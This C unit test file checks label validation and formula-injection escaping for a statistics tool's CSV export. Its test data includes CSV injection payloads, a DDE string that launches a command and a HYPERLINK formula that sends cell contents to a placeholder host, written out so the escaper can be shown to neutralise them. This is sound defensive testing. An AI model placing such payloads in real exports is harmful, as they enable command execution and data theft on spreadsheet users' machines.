/* Unit tests for core/label.c (what a published category label may be)
 * and the one CSV cell writer (core/strbuf.c strbuf_add_csv*, used by
 * export/files.c render_table_csv for every table and `cohort protect`). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <string.h>

#include "../../core/label.h"
#include "../../core/strbuf.h"
#include "../../anonymise/disclosure.h"
#include "../../export/files.h"

static void
test_label_check(void **state)
{
    static const struct {
        const char *label;
        enum label_fault want;
    } t[] = {
        {"Northgate", LABEL_OK},
        {"E01099003", LABEL_OK},
        {"Riverside, East", LABEL_OK},
        {"Abbey-Park", LABEL_OK},
        {"Total Hill", LABEL_OK},
        {"Unknowns End", LABEL_OK},
        {"Saint-\xc3\x89loi", LABEL_OK},         /* UTF-8 É */
        {"\xe2\x82\xac zone", LABEL_OK},         /* UTF-8 € */
        {"\xf0\x9f\x8f\xa0", LABEL_OK},          /* U+1F3E0 */
        {"'=1+1", LABEL_OK},                     /* already text */
        {" =1+1", LABEL_OK},                     /* not at the start */
        {"", LABEL_OK},                          /* empty: UNKNOWN */
        {"Total", LABEL_RESERVED},
        {"TOTAL", LABEL_RESERVED},
        {"total", LABEL_RESERVED},
        {" Total ", LABEL_RESERVED},
        {"UNKNOWN", LABEL_RESERVED},
        {"unknown", LABEL_RESERVED},
        {"Unknown\t", LABEL_RESERVED},
        {"Caf\xe9", LABEL_NOT_UTF8},             /* Latin-1 é */
        {"\xc0\xaf", LABEL_NOT_UTF8},            /* overlong / */
        {"\xed\xa0\x80", LABEL_NOT_UTF8},        /* a surrogate */
        {"\xf4\x90\x80\x80", LABEL_NOT_UTF8},    /* past U+10FFFF */
        {"Abbey\xe2\x82", LABEL_NOT_UTF8},       /* cut short */
        {"=HYPERLINK(\"http://x/?\"&A1,\"Click\")", LABEL_FORMULA},
        {"+cmd|' /C calc'!A0", LABEL_FORMULA},
        {"-5", LABEL_FORMULA},
        {"@SUM(A1)", LABEL_FORMULA},
        {"\tAbbey", LABEL_FORMULA},
        {"\rAbbey", LABEL_FORMULA},
        /* invalid UTF-8 is the first fault reported */
        {"=Caf\xe9", LABEL_NOT_UTF8},
        /* a spreadsheet would store a number or a date, not the text */
        {"007", LABEL_VALUE},
        {"5-10", LABEL_VALUE},
        {"0 to 4", LABEL_OK},
        {"65 and over", LABEL_OK},
        {"Ward 10", LABEL_OK},
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
        enum label_fault f = label_check(t[i].label);

        if (f != t[i].want)
            fail_msg("case %zu: label_check gave %d, want %d", i, (int)f,
                     (int)t[i].want);
        assert_int_equal(label_fault_rule(f) == NULL, f == LABEL_OK);
    }
    assert_string_equal(label_fault_rule(LABEL_RESERVED), "reserved_label");
    assert_string_equal(label_fault_rule(LABEL_NOT_UTF8), "label_not_utf8");
    assert_string_equal(label_fault_rule(LABEL_FORMULA), "label_formula");
    assert_string_equal(label_fault_rule(LABEL_VALUE), "label_number_or_date");
}

/* What Excel and LibreOffice Calc turn into a value when they open a CSV
 * (quoted or not), and what they keep as text. */
static void
test_label_reads_as_value(void **state)
{
    static const struct {
        const char *s;
        int value;
    } t[] = {
        /* numbers */
        {"7", 1}, {"007", 1}, {"0123456789", 1}, {"3.5", 1}, {".5", 1},
        {"1,234", 1}, {"1E5", 1}, {"2e-3", 1}, {"5%", 1}, {"(3)", 1},
        {"$5", 1}, {"\xc2\xa3" "12", 1}, {"\xe2\x82\xac" "1.50", 1},
        {" 42 ", 1}, {"TRUE", 1}, {"false", 1},
        /* dates and times */
        {"5-10", 1}, {"11-15", 1}, {"2026-10", 1}, {"2026-10-01", 1},
        {"1/2", 1}, {"01/10/2026", 1}, {"10:30", 1}, {"1 1/2", 1},
        {"Mar-20", 1}, {"1 May", 1}, {"May 2026", 1}, {"5-sept", 1},
        {"10:30 pm", 1},
        /* text */
        {"", 0}, {"0 to 4", 0}, {"5 to 10", 0}, {"65 and over", 0},
        {"65+", 0}, {"E05001234", 0}, {"E01099003", 0}, {"Ward 10", 0},
        {"March", 0}, {"March East", 0}, {"May", 0}, {"1E", 0}, {"1e+", 0},
        {"12 Acres", 0}, {"St. Mary's 2", 0}, {"Total", 0}, {"[c]", 0},
        {"1.2.x", 0}, {"%", 0}, {"$", 0}, {"()", 0}, {"yes", 0},
    };
    char buf[32];
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(t) / sizeof(t[0]); i++)
        if (label_reads_as_value(t[i].s) != t[i].value)
            fail_msg("case %zu '%s': want %d", i, t[i].s, t[i].value);
    age_band_label(0, 4, buf, sizeof(buf));
    assert_string_equal(buf, "0 to 4");
    age_band_label(65, -1, buf, sizeof(buf));
    assert_string_equal(buf, "65 and over");
    age_band_label(16, 17, buf, sizeof(buf));
    assert_int_equal(label_reads_as_value(buf), 0);
}

static void
test_utf8_valid_prefix(void **state)
{
    static const struct {
        const char *s;
        size_t want;
    } t[] = {
        {"", 0},
        {"abc", 3},
        {"a\xc3\xa9z", 4},
        {"ab\xe9z", 2},
        {"\xe0\x80\x80", 0},      /* overlong 3-byte */
        {"x\xf0\x9f\x8f\xa0y", 6},
        {"x\xf0\x9f\x8f", 1},
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(t) / sizeof(t[0]); i++)
        assert_int_equal(utf8_valid_prefix((const unsigned char *)t[i].s,
                                           strlen(t[i].s)),
                         t[i].want);
}

/* OWASP's rule: a cell starting with = + - @ tab or CR gets a leading ',
 * inside the quotes when the cell is quoted; nothing else changes. */
static void
test_csv_cell(void **state)
{
    static const struct {
        const char *in;
        const char *plain;    /* strbuf_add_csv */
        const char *quoted;   /* strbuf_add_csv_quoted */
    } t[] = {
        {"Northgate", "Northgate", "\"Northgate\""},
        {"Riverside, East", "\"Riverside, East\"", "\"Riverside, East\""},
        {"Abbey \"Old\" Park", "\"Abbey \"\"Old\"\" Park\"",
         "\"Abbey \"\"Old\"\" Park\""},
        {"", "", "\"\""},
        {"12", "12", "\"12\""},
        {"a=b", "a=b", "\"a=b\""},
        {"=1+1", "'=1+1", "\"'=1+1\""},
        {"@SUM(A1)", "'@SUM(A1)", "\"'@SUM(A1)\""},
        {"-5", "'-5", "\"'-5\""},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0",
         "\"'+cmd|' /C calc'!A0\""},
        {"=HYPERLINK(\"http://x/?\"&A1,\"Click\")",
         "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Click\"\")\"",
         "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Click\"\")\""},
        {"\tx", "'\tx", "\"'\tx\""},
        {"\rx", "\"'\rx\"", "\"'\rx\""},
    };
    size_t i;

    (void)state;
    for (i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
        struct strbuf a = STRBUF_INIT, b = STRBUF_INIT;

        strbuf_add_csv(&a, t[i].in);
        strbuf_add_csv_quoted(&b, t[i].in);
        assert_false(strbuf_failed(&a) || strbuf_failed(&b));
        assert_string_equal(strbuf_str(&a), t[i].plain);
        assert_string_equal(strbuf_str(&b), t[i].quoted);
        strbuf_release(&a);
        strbuf_release(&b);
    }
}

/* A table rendered as CSV: header, period and category cells all go
 * through the guard (cohort protect takes all three from a user's file). */
static void
test_table_csv_escapes(void **state)
{
    static const uint32_t dims[1] = {4};
    static char *labels0[4] = {"=1+1", "@SUM(A1)", "-5", "Abbey"};
    char *const *labels[1] = {labels0};
    static const char *const by[1] = {"+area"};
    static const char *const periods[1] = {"=now()"};
    struct count_table t;
    struct published_table pub;
    struct strbuf sb = STRBUF_INIT;
    const char *csv;
    size_t i;

    (void)state;
    assert_int_equal(table_init(&t, 1, 1, dims, labels), 0);
    for (i = 0; i < 4; i++)
        t.cells[i].count = t.cells[i].published = 20;
    table_fill_margins(&t);
    assert_int_equal(disclosure_publish(&t, &pub), 0);
    render_table_csv(&pub, "@period", periods, by, &sb);
    published_table_release(&pub);
    assert_false(strbuf_failed(&sb));
    csv = strbuf_str(&sb);
    assert_non_null(strstr(csv, "'@period,'+area,count,margin\n"));
    assert_non_null(strstr(csv, "\n'=now(),\"'=1+1\",20,no\n"));
    assert_non_null(strstr(csv, "\n'=now(),\"'@SUM(A1)\",20,no\n"));
    assert_non_null(strstr(csv, "\n'=now(),\"'-5\",20,no\n"));
    assert_non_null(strstr(csv, "\n'=now(),\"Abbey\",20,no\n"));
    assert_non_null(strstr(csv, "\n'=now(),\"Total\","));
    /* no cell of any line starts like a formula */
    assert_null(strstr(csv, ",="));
    assert_null(strstr(csv, ",\"="));
    assert_null(strstr(csv, "\n="));
    strbuf_release(&sb);
    table_release(&t);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_label_check),
        cmocka_unit_test(test_label_reads_as_value),
        cmocka_unit_test(test_utf8_valid_prefix),
        cmocka_unit_test(test_csv_cell),
        cmocka_unit_test(test_table_csv_escapes),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
